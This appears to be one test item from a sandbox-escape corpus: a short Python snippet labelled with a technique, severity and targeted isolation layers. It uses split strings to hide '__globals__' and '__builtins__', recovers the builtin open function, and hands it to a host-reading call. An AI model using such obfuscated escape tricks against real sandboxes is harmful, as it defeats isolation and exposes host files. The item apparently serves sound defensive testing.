# technique: single dispatch asks a type's descriptor from the library's own frame
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import functools
import json

def trick():
    ask = functools.singledispatch(vars(type(won))["__glo" + "bals__"].__get__)
    return ask(json.dumps)["__built" + "ins__"]["open"]

read_host(trick)
